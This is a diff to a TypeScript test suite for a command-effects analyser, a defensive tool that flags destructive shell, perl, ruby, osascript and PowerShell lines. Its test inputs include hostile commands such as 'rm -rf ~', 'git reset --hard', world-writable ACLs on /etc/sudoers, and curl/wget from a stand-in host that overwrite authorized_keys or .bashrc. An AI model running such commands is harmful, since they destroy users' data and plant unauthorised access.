@@ -66,7 +66,7 @@ describe("effectsOf", () => {
   describe("moving onto /dev/null deletes; a download into a startup file or key plants it; a PATH into /tmp is planted", () => {
     it.each([
       ["mv ~/Documents /dev/null", ["move-away -r /home/user/Documents", "delete -r /home/user/Documents"]],
-      ["mv build.log /tmp/old.log", ["move-away -r build.log"]],
+      ["mv build.log /tmp/old.log", ["move-away -r build.log", "delete -r build.log"]],
       ["curl -o ~/.ssh/authorized_keys https://x.example/k", ["system-write /home/user/.ssh/authorized_keys"]],
       ["wget -O ~/.bashrc https://x.example/rc", ["system-write /home/user/.bashrc"]],
       ["curl -o vendor/jquery.min.js https://code.jquery.com/jquery.min.js", []],
@@ -301,6 +301,109 @@ describe("effectsOf", () => {
       ["node -e \"for (let i=0;i<3;i++) require('child_process').spawn('ls')\"", []],
     ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
       expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("an unquoted heredoc runs the substitutions in its body; a quoted one is data", () => {
+    it.each([
+      ["git commit -F - <<EOF\nfix\n$(git reset --hard)\nEOF", ["discard-work ."]],
+      ["cat > msg.txt <<EOF\n`rm -rf ~/Music`\nEOF", ["delete -r /home/user/Music"]],
+      ["cat <<EOF\n$((1 + $(git clean -fdx)))\nEOF", ["discard-work ."]],
+      ["cat > msg.txt <<'EOF'\n`rm -rf ~/Music`\nEOF", []],
+      ["cat <<\"EOF\"\n$(rm -rf ~)\nEOF", []],
+      ["cat <<\\EOF\n$(rm -rf ~)\nEOF", []],
+      ["cat <<EOF\nprice: \\$(rm -rf ~)\nEOF", []],
+      ["git commit -F - <<EOF\nrelease $(git describe --tags)\nEOF", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("perl's qx and ruby's %x run a shell line with any delimiter; a fat comma or a format string does not", () => {
+    it.each([
+      ["perl -e 'qx(git reset --hard)'", ["discard-work ."]],
+      ["perl -e 'qx[git reset --hard]'", ["discard-work ."]],
+      ["perl -e 'qx!git reset --hard!'", ["discard-work ."]],
+      ["perl -e 'my $o = qx {git clean -fdx};'", ["discard-work ."]],
+      ["ruby -e 'puts %x[rm -rf ~/Music]'", ["delete -r /home/user/Music"]],
+      ["perl -e 'my %o = (qx => 2); print 1'", []],
+      ["perl -e 'printf(\"%x-%x\", 1, 2)'", []],
+      ["perl -e 'print qx{uname -a}'", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("perl and ruby calls without parentheses, and File::Path's lists, are read like the parenthesised ones", () => {
+    it.each([
+      ["perl -e \"system 'rm', '-rf', '/home/user';\"", ["delete -r /home/user"]],
+      ["ruby -e 'system \"git reset --hard\"'", ["discard-work ."]],
+      ["perl -e \"use File::Path; rmtree('/tmp/x', '/home/user')\"", ["delete -r /home/user", "delete -r /tmp/x"]],
+      ["perl -e \"use File::Path; rmtree(['/srv/a', '/srv/b'])\"", ["delete -r /srv/a", "delete -r /srv/b"]],
+      ["perl -e \"system 'ls', '-la';\"", []],
+      ["perl -e \"use File::Path; rmtree('./build')\"", ["delete -r ./build"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("exec as a regular expression's or a PHP object's method runs nothing", () => {
+    it.each([
+      ["node -e 'const m = /y/.exec(\"git push --force\")'", []],
+      ["php -r '$db->exec(\"rm -rf /\");'", []],
+      ["node -e 'require(\"child_process\").exec(\"git reset --hard\")'", ["discard-work ."]],
+      ["php -r 'exec(\"git reset --hard\");'", ["discard-work ."]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("AppleScript's do shell script in any case and spacing, and every -e of perl, ruby and osascript", () => {
+    it.each([
+      ["osascript -e 'DO SHELL SCRIPT \"git clean -fdx\"'", ["discard-work ."]],
+      ["osascript -e 'do  shell  script \"rm -rf ~/Pictures\"'", ["delete -r /home/user/Pictures"]],
+      ["osascript -e 'display dialog \"x\"' -e 'do shell script \"rm -rf ~/Music\"'", ["delete -r /home/user/Music"]],
+      ["perl -e 'print 1;' -e 'system(\"git reset --hard\")'", ["discard-work ."]],
+      ["osascript -e 'display notification \"done\"' -e 'beep'", []],
+      ["perl -ne 'print' notes.txt", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a recursive ACL change walks its targets like chmod -R; the ACL spec is no path", () => {
+    it.each([
+      ["setfacl -R -m u:deploy:rwx /etc", ["permissions -r unsafe-mode /etc"]],
+      ["setfacl -Rm u:x:rwx ~", ["permissions -r /home/user"]],
+      ["setfacl -m o::rwx /etc/sudoers", ["permissions unsafe-mode /etc/sudoers"]],
+      ["setfacl -R -m u:deploy:rwX ./public", ["permissions -r ./public"]],
+      ["setfacl -m u:www-data:rx ./public", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a tree moved into a temp directory is deleted with a delay; the rules judge where it came from", () => {
+    it.each([
+      ["mv ~/Documents /tmp/trash", ["move-away -r /home/user/Documents", "delete -r /home/user/Documents"]],
+      ["mv ~/Projects /var/tmp/", ["move-away -r /home/user/Projects", "delete -r /home/user/Projects"]],
+      ["mv ~/Documents ~/Archive/", ["move-away -r /home/user/Documents"]],
+      ["mv -t /tmp ./a", ["move-away -r ./a"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("awk comments that open a line, and xargs fed /dev/null, run nothing", () => {
+    it.each([
+      ["awk 'BEGIN{print 1;\n# system(\"rm -rf ~\")\n}'", []],
+      ["awk '/x#/ { system(\"rm -rf ~/Music\") }' notes.txt", ["delete -r /home/user/Music"]],
+      ["xargs -0 rm -rf < /dev/null", []],
+      ["xargs rm -rf < dirs.txt", ["delete -r $(xargs input)"]],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(kinds(line)).toEqual(expected);
+    });
+  });
+  describe("a PowerShell parameter bound with a colon (-Path:C:\\x) is that parameter", () => {
+    it.each([
+      ["Remove-Item -Recurse -Force -Path:C:\\Users\\user", ["delete -r /home/user"]],
+      ["Remove-Item -Recurse -Force -LiteralPath:\"C:\\Users\\user\\Documents\"", ["delete -r /home/user/Documents"]],
+      ["Remove-Item -Recurse -Force -Path:C:\\Users\\user\\project\\build", ["delete -r /home/user/project/build"]],
+      ["Write-Output '-Recurse'", []],
+    ] as [string, string[]][])("should derive from %s its effects", (line, expected) => {
+      expect(psKinds(line)).toEqual(expected);
     });
   });
 });
